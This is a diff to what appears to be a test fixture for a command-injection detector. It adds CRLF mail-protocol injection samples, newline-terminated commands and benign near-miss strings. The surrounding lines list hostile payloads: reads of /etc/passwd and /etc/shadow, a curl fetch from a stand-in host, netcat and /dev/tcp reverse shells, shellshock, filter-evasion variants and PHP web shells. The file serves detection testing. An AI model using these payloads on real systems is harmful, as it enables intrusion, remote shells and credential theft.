@@ -51,6 +51,11 @@ COMMANDS = {
                      "$(cat$(id))", "`uname -a`", "<(id)"],
     "evasion": [";w'h'o'am'i", ";c\\at /etc/passwd", ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
                 ";/???/c?t /etc/passwd", ";/usr/bin/id", ";wh$@oami", "|/bin/bash -i"],
+    "mail protocol": ["x@example.com\r\nRCPT TO:<victim@example.org>", "\r\nMAIL FROM:<a@b.com>", "\r\nDATA",
+                      "\r\nA1 QUIT", "\r\na001 EXAMINE INBOX", "\r\nd store 2 +FLAGS (\\Deleted)\n",
+                      "\r\nRETR 123", "\r\nlist 3", "INBOX\r\nA2 LOGIN admin secret"],
+    "line ended": ["visudo\n", "nohup who\n", "time who\n", "cscli alerts list\n", "pip3 install something\n",
+                   "ansible-console\n", "chef-client -t 1.1.1.1\n"],
     "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
              "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow",
              "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc"],
@@ -63,6 +68,10 @@ COMMAND_NEAR_MISSES = [
     "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
     "Terms & Conditions; Privacy", "back-end & front-end", "C:\\new folder\\notes.txt",
+    # line breaks in free text: mail verbs in prose, a recipe line, a command word ending a sentence
+    "Line one\nI select the blue one", "Thanks\nData attached", "hello\nlist of items", "See you\nUser guide",
+    "Cut orange quarters into crosswise slices about 1/8-inch thick.\n", "Go to store.\nAt the store, shop.",
+    "pip\n", "top\n", "date\n", "Dear team,\r\nHelp is on the way", "Notes:\nquit smoking", "a\nstore 2 apples",
 ]
 CODE_PAYLOADS = {
     "php": ["<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
